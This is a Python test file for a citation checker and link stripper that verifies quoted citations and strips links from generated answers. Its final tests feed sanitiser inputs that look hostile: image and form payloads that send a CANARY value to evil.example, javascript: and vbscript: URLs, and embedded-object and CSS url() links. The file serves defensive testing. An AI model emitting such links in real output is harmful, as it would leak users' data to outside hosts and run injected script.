"""Citation checking and link stripping: pure functions, exact results."""

from __future__ import annotations

import json

import pytest

from git_intent.answer.citations import quotable_text, quote_occurs, strip_links, verify_citations
from git_intent.answer.values import Citation, DroppedCitation
from git_intent.core.values import Message, Part

S = "0a0314fb-b206-450f-b895-cd5181a28ae5"
T = "1ed1f046-f456-4f14-9c74-bb83179cf809"
M1 = "00696767-9ae6-4387-b93c-4d48f521f55e"
M2 = "b342f2ed-2ce4-4b0f-8c76-bf42ef8d016f"
M3 = "b2f3c599-0740-40d5-9f43-d4f2332d829c"
KNOWN = {S: [M1, M2, M3, "b2000000-0000-0000-0000-000000000000"], T: ["t-message-1"]}
READ = {
    (S, M1): "Handle single lines exceeding MaxChunkSize (error or split) in chunking.go:84",
    (S, M2): "Since JSONL lines are complete JSON objects that  can't be split,\nreturn an error.",
}


def check(text: str) -> tuple[str, list[Citation], list[DroppedCitation]]:
    return verify_citations(text, READ, KNOWN)


def test_a_verified_citation_with_its_quote_is_kept_and_written_with_full_ids() -> None:
    text, citations, dropped = check(
        f'The user asked to "Handle single lines exceeding MaxChunkSize" [{S[:8]}:{M1[:8]}].'
    )
    assert text == f'The user asked to "Handle single lines exceeding MaxChunkSize" [{S}:{M1}].'
    assert citations == [
        Citation(session_id=S, message_id=M1, quote="Handle single lines exceeding MaxChunkSize")
    ]
    assert dropped == []


def test_quotes_are_case_sensitive() -> None:
    text, citations, dropped = check(f'The user asked to "handle single lines" [{S}:{M1}].')
    assert (text, citations) == ("The user asked to.", [])
    assert [(d.reason, d.quote) for d in dropped] == [("quote_mismatch", "handle single lines")]


def test_a_mismatched_quote_is_dropped_with_its_citation() -> None:
    text, citations, dropped = check(
        f'It asked "retry 3 times" [{S}:{M1}]. It said "return an error." [{S}:{M2}].'
    )
    assert text == f'It asked. It said "return an error." [{S}:{M2}].'
    assert citations == [Citation(session_id=S, message_id=M2, quote="return an error.")]
    assert dropped == [
        DroppedCitation(
            session_id=S, message_id=M1, reason="quote_mismatch", marker=f"[{S}:{M1}]", quote="retry 3 times"
        )
    ]


def test_whitespace_and_typographic_quotes_are_normalised_and_ellipses_join_fragments() -> None:
    text, citations, dropped = check(
        f"The agent said “complete JSON objects that can’t be split, return an error” [{S}:{M2}] and "
        f"“Since JSONL lines … can't be split” [{S}:{M2}]."
    )
    assert dropped == []
    assert [c.quote for c in citations] == [
        "complete JSON objects that can’t be split, return an error",
        "Since JSONL lines … can't be split",
    ]
    assert quote_occurs("objects … Since", READ[(S, M2)]) is False  # fragments must come in order


def test_unknown_not_read_and_malformed_citations_are_dropped_with_their_reason_codes() -> None:
    text, citations, dropped = check(
        f"A [{S}:{M3}]. B [{S}:ffffffff]. C [{T}:t-message-1]. D [deadbeef:{M1}]. E [{S}:b2]. F "
        f"[{S}:{M1}:x]. G [{S}:{M1}]."
    )
    assert text == f"A. B. C. D. E. F. G [{S}:{M1}]."
    assert citations == [Citation(session_id=S, message_id=M1)]
    assert [(d.session_id, d.message_id, d.reason) for d in dropped] == [
        (S, M3, "not_read"),
        (S, "ffffffff", "unknown_message"),
        (T, "t-message-1", "not_read"),
        ("deadbeef", M1, "unknown_message"),
        (S, "b2", "malformed"),
        (S, f"{M1}:x", "malformed"),
    ]


def test_a_quote_belongs_to_the_citation_right_after_it_in_the_same_sentence() -> None:
    # the first quote's sentence ends before any citation: it is nobody's and stays
    text, citations, dropped = check(
        f'They said "retry". Then "Handle single lines" and more [{S}:{M1}, {S}:{M2}].'
    )
    assert dropped == []
    assert citations == [
        Citation(session_id=S, message_id=M1, quote="Handle single lines"),
        Citation(session_id=S, message_id=M2),
    ]
    assert text == f'They said "retry". Then "Handle single lines" and more [{S}:{M1}][{S}:{M2}].'


def test_a_dropped_citation_of_several_removes_only_itself() -> None:
    text, _, dropped = check(f'"Handle single lines" [{S}:{M1}; {S}:{M3}] done.')
    assert text == f'"Handle single lines" [{S}:{M1}] done.'
    assert [d.reason for d in dropped] == ["not_read"]


def test_prose_in_brackets_and_citations_inside_quotes_are_not_citations() -> None:
    text, citations, dropped = check(f'See [Note: this is prose] and "a quoted [{S}:{M3}] marker".')
    assert (text, citations, dropped) == (
        f'See [Note: this is prose] and "a quoted [{S}:{M3}] marker".',
        [],
        [],
    )


def test_links_and_images_are_stripped_and_a_linked_citation_keeps_its_brackets() -> None:
    text, removed = strip_links(
        f"Why ![x](https://evil.example/?c=CANARY) see [the docs](https://docs.example/a) and "
        f"[{S}:{M1}](http://x.example) or https://evil.example/p?q=CANARY, <https://a.example/>, "
        f"www.b.example/c, "
        f'<img src="https://i.example/p.png"> mailto:x@y.example.\n[ref]: https://r.example/'
    )
    assert "CANARY" not in text and "example" not in text
    assert text == (
        f"Why see the docs and [{S}:{M1}] or (link removed), (link removed), (link removed), "
        "(link removed).\n"
    )
    assert removed == 9


def test_quotable_text_holds_text_reasoning_decoded_tool_arguments_and_results() -> None:
    message = Message(
        message_id="m",
        role="assistant",
        parts=(
            Part(kind="reasoning", text="thinking"),
            Part(kind="text", text="words"),
            Part(kind="tool_call", tool="Edit", text=json.dumps({"new_string": 'if x > "a" {\n\treturn\n}'})),
            Part(kind="tool_call", tool="Bash", text="not json"),
            Part(kind="tool_result", text="ok"),
        ),
    )
    assert quotable_text(message) == 'thinking\nwords\nif x > "a" {\n\treturn\n}\nnot json\nok'
    assert quote_occurs('if x > "a" { return }', quotable_text(message))


@pytest.mark.parametrize(
    "hostile",
    [
        'click <object data="//evil.example/x.swf?c=CANARY"></object> here',
        "click <embed src='//evil.example/e?c=CANARY'> here",
        "click <form action=\"javascript:fetch('//evil.example/?c=CANARY')\"><button>go</button></form> here",
        "click javascript:alert('CANARY') here",
        "click JavaScript:void(fetch('/?c=CANARY')) here",
        'click vbscript:msgbox("CANARY") here',
        "click //evil.example/p?c=CANARY here",
        "click [it](javascript:alert('CANARY')) here",
        "click <javascript:alert('CANARY')> here",
        'click <svg><a xlink:href="//evil.example/?c=CANARY">x</a></svg> here',
        'click <div style="background:url(//evil.example/?c=CANARY)">x</div> here',
    ],
)
def test_strip_links_removes_javascript_and_protocol_relative_links(hostile: str) -> None:
    """`javascript:` URLs and protocol-relative `//host/…` links, in tags or bare."""
    text, removed = strip_links(hostile)
    assert "CANARY" not in text and "evil" not in text and "javascript" not in text.lower(), text
    assert text.startswith("click ") and text.endswith(" here") and removed >= 1


def test_strip_links_keeps_code_comments_and_paths() -> None:
    text = "In Go, `x := a // halve it`, //go:build linux and the path src//lib/a.go stay; see cmd/x.go."
    assert strip_links(text) == (text, 0)
